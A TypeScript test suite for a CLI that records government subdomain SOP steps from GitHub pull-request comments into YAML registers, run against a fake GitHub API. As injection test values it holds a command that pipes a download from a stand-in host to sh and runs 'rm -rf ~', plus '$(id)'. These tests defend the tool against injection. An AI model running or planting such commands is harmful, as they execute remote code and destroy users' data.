import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { main } from '../../src/cli/main.js';
import type { Io } from '../../src/cli/io.js';
import { parseFile } from '../../src/repo/load.js';
import { answerLine, STEP_REPLY_MARKER } from '../../src/steps/reply.js';
import { cleanupTemps, gitIn, tempGitRepo } from '../helpers/temp-repo.js';
import { officeDir } from './helpers.js';
import { StepFakeGitHub } from './support/fake-github.js';

const REPO = 'pemkab-lumajang/subdomain';
const LUMAJANG_FILE = 'subdomains/perizinan.lumajangkab.go.id.yaml';
const BEKASI_FILE = 'subdomains/sehat.bekasikota.go.id.yaml';

let fake: StepFakeGitHub;
let root: string;

async function step(args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const io: Io = {
    cwd: root,
    env: { GITHUB_API_URL: fake.url, GITHUB_TOKEN: 'test-token', SUBDOMAIN_GITHUB_RETRY_BASE_MS: '1', SUBDOMAIN_GITHUB_THROTTLE: 'off', ...env },
    stdout: (t) => void (stdout += t),
    stderr: (t) => void (stderr += t),
    now: () => new Date('2026-11-24T03:00:00Z'),
  };
  const code = await main(['step', ...args], io);
  return { code, stdout, stderr };
}

const onComment = (id: number, pr = 7) => ['--repo', REPO, '--pr', String(pr), '--comment', String(id)];
const comment = (user: string, body: string, created_at = '2026-11-17T03:00:00Z', on = 7) => fake.addComment({ user, body, created_at, on });
const status = () => gitIn(root, 'status', '--porcelain');
const diffStat = () => gitIn(root, 'diff', '--numstat').trim();

beforeEach(async () => {
  fake = await new StepFakeGitHub(REPO).start();
  fake.pulls.push({ number: 7, author: 'staf-dpmptsp', created_at: '2026-11-17T01:00:00Z', merged_at: '2026-11-17T02:20:00Z' });
  fake.pulls.push({ number: 8, author: 'staf-dpmptsp', created_at: '2026-11-18T01:00:00Z', merged_at: null });
  fake.pulls.push({ number: 9, author: 'staf-dpmptsp', created_at: '2026-11-18T01:00:00Z', merged_at: '2026-11-18T02:00:00Z' });
  fake.teams['pemkab-lumajang/ppi-spbe'] = { 'staf-spbe': 'active', 'calon-staf': 'pending' };
  root = tempGitRepo(officeDir('lumajang'));
});

afterEach(async () => {
  expect(fake.invalid).toEqual([]);
  await fake.close();
  cleanupTemps();
});

describe('subdomain step: recording', () => {
  test('an official’s /step comment appends the step to the pull request’s history, and one reply confirms it', async () => {
    const id = comment('admin-server-lmj', '/step laporan_admin Subdomain sudah aktif.');
    const result = await step(onComment(id));
    expect(result).toMatchObject({ code: 0 });
    // Exactly one line added to the register file, nothing else touched.
    expect(diffStat()).toBe(`1\t0\t${LUMAJANG_FILE}`);
    const text = readFileSync(join(root, LUMAJANG_FILE), 'utf8');
    expect(text).toContain(
      '      - { step: laporan_admin, title: Administrator Server menginformasikan kepada Kasi PPI SPBE bahwa perintah sudah dilaksanakan, role: administrator_server, by: admin-server-lmj, at: "2026-11-17T03:00:00Z", elapsed_s: 3360, standard_s: 300 }\n    opened_at:',
    );
    expect(parseFile(LUMAJANG_FILE, new TextEncoder().encode(text), 'register').ok).toBe(true);
    expect(fake.replies).toHaveLength(1);
    expect(fake.replies[0]!.body.startsWith(STEP_REPLY_MARKER)).toBe(true);
    expect(fake.replies[0]!.body).toContain('Langkah dicatat / step recorded');
    expect(fake.replies[0]!.body).toContain('@admin-server-lmj — Administrator Server');
    expect(fake.replies[0]!.body).not.toContain('Subdomain sudah aktif');
  });

  test('steps follow one another; an active team member holds the team’s role', async () => {
    expect((await step(onComment(comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-17T03:00:00Z')))).code).toBe(0);
    const second = await step(onComment(comment('staf-spbe', '/langkah penerimaan_laporan', '2026-11-17T03:04:00Z')));
    expect(second.code).toBe(0);
    const text = readFileSync(join(root, LUMAJANG_FILE), 'utf8');
    expect(text).toContain('{ step: penerimaan_laporan, title: Kasi PPI SPBE menerima informasi bahwa subdomain baru sudah dibuat, role: kasi_ppi_spbe, by: staf-spbe, at: "2026-11-17T03:04:00Z", elapsed_s: 240, standard_s: 300 }');
    // Membership is read per person and team (404 = not a member); the team makes staf-spbe the Kasi.
    expect(fake.log.filter((l) => l.path.includes('/memberships/staf-spbe'))).toContainEqual({ method: 'GET', path: '/orgs/pemkab-lumajang/teams/ppi-spbe/memberships/staf-spbe', status: 200 });
    expect(fake.replies.at(-1)!.body).toMatch(/\| `penerimaan_laporan` .*\| @staf-spbe, 2026-11-17T03:04:00Z \|/);
  });

  test('a team is asked about once per run: the role check and the step check share the answer', async () => {
    await step(onComment(comment('staf-spbe', '/langkah penerimaan_laporan', '2026-11-17T03:04:00Z')));
    const asked = fake.log.filter((l) => l.path === '/orgs/pemkab-lumajang/teams/ppi-spbe/memberships/staf-spbe');
    expect(asked).toHaveLength(1);
  });

  test('Bekasi: /langkah penyerahan by the Kasi records SOP row 5', async () => {
    root = tempGitRepo(officeDir('bekasi'));
    fake.pulls.push({ number: 12, author: 'staf-dinkes', created_at: '2026-11-17T01:55:00Z', merged_at: '2026-11-17T03:22:00Z' });
    const result = await step(onComment(comment('kasi-egov', '/langkah penyerahan', '2026-11-17T03:32:00Z', 12), 12));
    expect(result.code).toBe(0);
    expect(diffStat()).toBe(`1\t0\t${BEKASI_FILE}`);
    expect(readFileSync(join(root, BEKASI_FILE), 'utf8')).toContain('role: kasi_pengembangan, by: kasi-egov, at: "2026-11-17T03:32:00Z", elapsed_s: 720, standard_s: 600 }');
    expect(fake.replies[0]!.body).toContain('terlambat / late');

    // The Mutu Baku report reads the recorded step from the register like any other.
    let report = '';
    const code = await main(['report', '--format', 'json'], { cwd: root, env: {}, stdout: (t) => void (report += t), stderr: () => {}, now: () => new Date('2026-11-24T03:00:00Z') });
    expect(code).toBe(0);
    const penyerahan = (JSON.parse(report) as { steps: { id: string; count: number; late: unknown[] }[] }).steps.find((s) => s.id === 'penyerahan');
    expect(penyerahan).toMatchObject({ count: 1 });
  });

  test('a re-run on a comment already recorded changes nothing and does not reply again', async () => {
    const id = comment('admin-server-lmj', '/langkah laporan_admin');
    expect((await step(onComment(id))).code).toBe(0);
    gitIn(root, 'commit', '-qam', 'recorded');
    const again = await step(onComment(id));
    expect(again.code).toBe(0);
    expect(again.stdout).toContain('sudah dicatat dari komentar ini');
    expect(status()).toBe('');
    expect(fake.replies).toHaveLength(1);
  });

  test('--dry-run writes nothing and replies nothing', async () => {
    const result = await step([...onComment(comment('admin-server-lmj', '/langkah laporan_admin')), '--dry-run']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('Langkah dicatat');
    expect(status()).toBe('');
    expect(fake.replies).toEqual([]);
  });
});

describe('subdomain step: refusals reply once, write nothing, exit 1', () => {
  async function refused(id: number, pr = 7): Promise<string> {
    const result = await step(onComment(id, pr));
    expect(result.code).toBe(1);
    expect(status()).toBe('');
    expect(fake.replies).toHaveLength(1);
    expect(fake.replies[0]!.body).toContain('Langkah tidak dicatat / step not recorded');
    return fake.replies[0]!.body;
  }

  test('out of order under strict order', async () => {
    expect(await refused(comment('kasi-spbe-lmj', '/langkah penerimaan_laporan'))).toContain('`laporan_admin` harus dicatat lebih dulu');
  });

  test('by the applicant, when they hold an SOP role too', async () => {
    fake.teams['pemkab-lumajang/ppi-spbe']!['staf-dpmptsp'] = 'active';
    expect(await refused(comment('staf-dpmptsp', '/langkah laporan_admin'))).toContain('adalah pemohon');
  });

  test('by a role holder without this step\'s role', async () => {
    expect(await refused(comment('kasi-spbe-lmj', '/langkah laporan_admin'))).toContain('tidak memegang peran Administrator Server');
  });

  test('a step that is not in the SOP: the reply lists the after-merge steps', async () => {
    const body = await refused(comment('admin-server-lmj', '/langkah penyerahan'));
    expect(body).toContain('Langkah `penyerahan` tidak ada dalam SOP.');
    expect(body).toContain('| `laporan_admin` ');
    expect(body).toContain('| `pengiriman_surat` ');
  });

  test('a pull request that is not merged', async () => {
    expect(await refused(comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-18T03:00:00Z', 8), 8)).toContain('Pull request #8 belum digabung');
  });

  test('a merged pull request that is not in the register yet (bilingual)', async () => {
    const body = await refused(comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-18T03:00:00Z', 9), 9);
    expect(body).toContain('Pull request #9 belum tercatat di daftar sub domain');
    expect(body).toContain('Pull request #9 is not in the register');
  });

  test('a hostile step id is refused without being echoed', async () => {
    const body = await refused(comment('admin-server-lmj', '/langkah $(curl${IFS}evil.example|sh) `rm -rf ~`'));
    expect(body).not.toContain('curl');
    expect(body).not.toContain('rm -rf');
  });
});

describe('subdomain step: nothing to do, usage and API failures', () => {
  test('a comment that is no command: exit 0, no reply, no change', async () => {
    const result = await step(onComment(comment('admin-server-lmj', 'Terima kasih.\n/langkah laporan_admin')));
    expect(result.code).toBe(0);
    expect(status()).toBe('');
    expect(fake.replies).toEqual([]);
  });

  test('a bot’s comment is never a command', async () => {
    const id = fake.addComment({ user: 'sop-bot[bot]', type: 'Bot', body: '/langkah laporan_admin', created_at: '2026-11-17T03:00:00Z', on: 7 });
    const result = await step(onComment(id));
    expect(result.code).toBe(0);
    expect(status()).toBe('');
    expect(fake.replies).toEqual([]);
  });

  test('a comment on another pull request than --pr: exit 2', async () => {
    const result = await step(onComment(comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-18T03:00:00Z', 9), 7));
    expect(result.code).toBe(2);
    expect(status()).toBe('');
  });

  test('missing or malformed options: exit 2 with the usage', async () => {
    for (const args of [['--repo', REPO, '--pr', '7'], ['--repo', REPO, '--pr', '07', '--comment', '1'], ['--repo', 'no-slash', '--pr', '7', '--comment', '1'], ['--pr', '7', '--comment', '1x']]) {
      const result = await step(args);
      expect(result.code).toBe(2);
      expect(result.stderr).toContain('usage: subdomain step');
    }
  });

  test('GitHub failing after retries: exit 2, nothing written, no reply', async () => {
    fake.fail('GET', /\/issues\/comments\//, 502, 10);
    const result = await step(onComment(comment('admin-server-lmj', '/langkah laporan_admin')));
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('Membaca komentar');
    expect(status()).toBe('');
    expect(fake.replies).toEqual([]);
  });

  test('a bad token: exit 2 that says so', async () => {
    const result = await step(onComment(comment('admin-server-lmj', '/langkah laporan_admin')), { GITHUB_TOKEN: 'wrong' });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('401');
  });

  test('a reply that cannot be written: exit 2, so the workflow commits nothing', async () => {
    fake.fail('POST', /\/issues\/7\/comments$/, 500, 10);
    const result = await step(onComment(comment('admin-server-lmj', '/langkah laporan_admin')));
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('Menulis balasan');
  });
});

describe('subdomain step: someone who holds no SOP role gets no reply (it would mention officials)', () => {
  test.each([
    ['the applicant', 'staf-dpmptsp', '/langkah laporan_admin'],
    ['a pending team invitation', 'calon-staf', '/langkah laporan_admin'],
    ['anyone, with a command that is not valid', 'orang-lain', '/langkah $(id)'],
  ])('%s: exit 1, nothing written, no reply', async (_what, user, body) => {
    const result = await step(onComment(comment(user, body)));
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('tidak memegang peran SOP apa pun');
    expect(status()).toBe('');
    expect(fake.replies).toEqual([]);
  });

  test('--gate: `proceed` for a role holder\'s command (even one refused later), `ignore` otherwise; it never writes or replies', async () => {
    const gate = async (user: string, body: string) => {
      const result = await step([...onComment(comment(user, body)), '--gate']);
      expect(result.code).toBe(0);
      return result.stdout.trim();
    };
    expect(await gate('admin-server-lmj', '/langkah laporan_admin')).toBe('proceed');
    expect(await gate('kasi-spbe-lmj', '/langkah laporan_admin')).toBe('proceed');
    expect(await gate('staf-spbe', '/langkah bukan-langkah')).toBe('proceed');
    expect(await gate('staf-dpmptsp', '/langkah laporan_admin')).toBe('ignore');
    expect(await gate('calon-staf', '/langkah laporan_admin')).toBe('ignore');
    expect(await gate('admin-server-lmj', 'Terima kasih, sudah aktif.')).toBe('ignore');
    expect(status()).toBe('');
    expect(fake.replies).toEqual([]);
  });
});

// GitHub keeps one running and one waiting run per concurrency group, and a newer waiting run
// replaces (cancels) the older: a run catches up the earlier commands no reply answers yet.
describe('subdomain step: a run catches up the commands of cancelled runs', () => {
  const answersOf = () => fake.replies.map((r) => /^<!-- answers: (\d+) (\w+) -->$/m.exec(r.body)?.slice(1).join(' '));
  const approvalsIn = () => [...readFileSync(join(root, LUMAJANG_FILE), 'utf8').matchAll(/\{ step: (\w+),.* by: ([\w-]+), at: "([^"]+)"/g)].map((m) => `${m[1]} ${m[2]} ${m[3]}`).slice(4);

  function threeCommands(): [number, number, number] {
    const first = comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-17T03:00:00Z');
    // A stranger's command, a remark and a bot's comment in between: never commands to record or answer.
    comment('orang-lain', '/langkah penerimaan_laporan', '2026-11-17T03:01:00Z');
    comment('orang-lain', '/langkah $(id)', '2026-11-17T03:01:30Z');
    comment('kabid-aptika-lmj', 'Terima kasih.', '2026-11-17T03:02:00Z');
    fake.addComment({ user: 'sop-bot[bot]', type: 'Bot', body: '/langkah penerimaan_laporan', created_at: '2026-11-17T03:03:00Z', on: 7 });
    const second = comment('staf-spbe', '/langkah penerimaan_laporan', '2026-11-17T03:04:00Z');
    const third = comment('kasi-spbe-lmj', '/langkah draft_pemberitahuan', '2026-11-17T03:08:00Z');
    return [first, second, third];
  }

  test('three role holders comment close together: the run for the third records all three in order, one reply each', async () => {
    fake.maxPerPage = 2; // the listing spans pages
    const [first, second, third] = threeCommands();
    const result = await step(onComment(third));
    expect(result.code).toBe(0);
    expect(fake.count('GET', /\/issues\/7\/comments$/)).toBeGreaterThan(1);
    expect(approvalsIn()).toEqual([
      'laporan_admin admin-server-lmj 2026-11-17T03:00:00Z',
      'penerimaan_laporan staf-spbe 2026-11-17T03:04:00Z',
      'draft_pemberitahuan kasi-spbe-lmj 2026-11-17T03:08:00Z',
    ]);
    // One write of the one file, three lines added; each step timed from the one before it.
    expect(diffStat()).toBe(`3\t0\t${LUMAJANG_FILE}`);
    expect(readFileSync(join(root, LUMAJANG_FILE), 'utf8')).toContain('role: kasi_ppi_spbe, by: kasi-spbe-lmj, at: "2026-11-17T03:08:00Z", elapsed_s: 240, standard_s: 600 }');
    expect(answersOf()).toEqual([`${first} recorded`, `${second} recorded`, `${third} recorded`]);
    expect(fake.replies.every((r) => r.body.startsWith(STEP_REPLY_MARKER) && r.body.includes('Langkah dicatat / step recorded'))).toBe(true);
    expect(fake.replies.some((r) => r.body.includes('orang-lain'))).toBe(false);
    expect(result.stdout).toContain(`komentar / comment ${first} (@admin-server-lmj)`);
    expect(result.stderr).toContain(`${LUMAJANG_FILE}: dicatat / recorded draft_pemberitahuan`);
  });

  test('a second run after that records nothing and replies nothing', async () => {
    const [, second, third] = threeCommands();
    expect((await step(onComment(third))).code).toBe(0);
    gitIn(root, 'commit', '-qam', 'recorded');
    for (const id of [third, second]) {
      const again = await step(onComment(id));
      expect(again.code).toBe(0);
      expect(status()).toBe('');
    }
    expect(fake.replies).toHaveLength(3);
  });

  test('the middle command, whose run was cancelled, is recorded and answered by the next run', async () => {
    const first = comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-17T03:00:00Z');
    expect((await step(onComment(first))).code).toBe(0);
    gitIn(root, 'commit', '-qam', 'first');
    const second = comment('staf-spbe', '/langkah penerimaan_laporan', '2026-11-17T03:04:00Z');
    const third = comment('kasi-spbe-lmj', '/langkah draft_pemberitahuan', '2026-11-17T03:08:00Z');
    expect((await step(onComment(third))).code).toBe(0);
    expect(diffStat()).toBe(`2\t0\t${LUMAJANG_FILE}`);
    expect(answersOf()).toEqual([`${first} recorded`, `${second} recorded`, `${third} recorded`]);
  });

  test('a command refused earlier stays refused: it is not decided again once it would pass', async () => {
    const early = comment('staf-spbe', '/langkah penerimaan_laporan', '2026-11-17T02:50:00Z');
    expect((await step(onComment(early))).code).toBe(1);
    const admin = comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-17T03:00:00Z');
    expect((await step(onComment(admin))).code).toBe(0);
    expect(approvalsIn()).toEqual(['laporan_admin admin-server-lmj 2026-11-17T03:00:00Z']);
    expect(answersOf()).toEqual([`${early} refused`, `${admin} recorded`]);
    // A re-run of the refused comment answers nothing and records nothing.
    gitIn(root, 'commit', '-qam', 'recorded');
    const again = await step(onComment(early));
    expect(again).toMatchObject({ code: 0 });
    expect(again.stdout).toContain('sudah dijawab sebelumnya');
    expect(status()).toBe('');
    expect(fake.replies).toHaveLength(2);
  });

  test("with the App's slug known, another bot's reply claiming an answer does not stop a command being recorded", async () => {
    fake.writer = 'sop-app[bot]';
    const first = comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-17T03:00:00Z');
    fake.addComment({ user: 'other-bot[bot]', type: 'Bot', body: `${STEP_REPLY_MARKER}\n${answerLine(first, 'recorded')}\n`, created_at: '2026-11-17T03:00:30Z', on: 7 });
    const second = comment('staf-spbe', '/langkah penerimaan_laporan', '2026-11-17T03:04:00Z');
    expect((await step(onComment(second), { SUBDOMAIN_CHECK_APP: 'sop-app' })).code).toBe(0);
    expect(approvalsIn()).toEqual(['laporan_admin admin-server-lmj 2026-11-17T03:00:00Z', 'penerimaan_laporan staf-spbe 2026-11-17T03:04:00Z']);
    expect(answersOf()).toEqual([`${first} recorded`, `${second} recorded`]);
  });

  test('a reply of an earlier version (naming no comment) answers every command before it', async () => {
    comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-17T03:00:00Z');
    fake.addComment({ user: 'github-actions[bot]', type: 'Bot', body: `${STEP_REPLY_MARKER}\n⛔ **Langkah tidak dicatat / step not recorded**\n`, created_at: '2026-11-17T03:00:30Z', on: 7 });
    const next = comment('staf-spbe', '/langkah penerimaan_laporan', '2026-11-17T03:04:00Z');
    expect((await step(onComment(next))).code).toBe(1);
    expect(status()).toBe('');
    expect(answersOf()).toEqual([`${next} refused`]);
  });

  test('the workflow\'s retry on a moved main (--no-reply) records the answered commands again, silently', async () => {
    const [first, second, third] = threeCommands();
    expect((await step(onComment(third))).code).toBe(0);
    gitIn(root, 'checkout', '-q', '--', '.'); // the push lost: reset to the new tip
    const retry = await step([...onComment(third), '--no-reply']);
    expect(retry.code).toBe(0);
    expect(diffStat()).toBe(`3\t0\t${LUMAJANG_FILE}`);
    expect(answersOf()).toEqual([`${first} recorded`, `${second} recorded`, `${third} recorded`]);
  });

  test('a command recorded without a reply (--no-reply) is answered once by the next run', async () => {
    const first = comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-17T03:00:00Z');
    expect((await step([...onComment(first), '--no-reply'])).code).toBe(0);
    gitIn(root, 'commit', '-qam', 'first');
    const second = comment('staf-spbe', '/langkah penerimaan_laporan', '2026-11-17T03:04:00Z');
    expect((await step(onComment(second))).code).toBe(0);
    expect(answersOf()).toEqual([`${first} already`, `${second} recorded`]);
    expect(fake.replies[0]!.body).toContain('sudah dicatat dari komentar ini');
  });

  test('its own command refused but an earlier one recorded: exit 0, so the workflow commits it', async () => {
    const first = comment('admin-server-lmj', '/langkah laporan_admin', '2026-11-17T03:00:00Z');
    const own = comment('kasi-spbe-lmj', '/langkah laporan_admin', '2026-11-17T03:01:00Z');
    const result = await step(onComment(own));
    expect(result.code).toBe(0);
    expect(approvalsIn()).toEqual(['laporan_admin admin-server-lmj 2026-11-17T03:00:00Z']);
    expect(answersOf()).toEqual([`${first} recorded`, `${own} refused`]);
  });

  test('the comments cannot be listed: nothing recorded, nothing answered, exit 2', async () => {
    const [, , third] = threeCommands();
    fake.fail('GET', /\/issues\/7\/comments$/, 502, 10);
    const result = await step(onComment(third));
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('Membaca komentar #7');
    expect(status()).toBe('');
    expect(fake.replies).toEqual([]);
  });
});
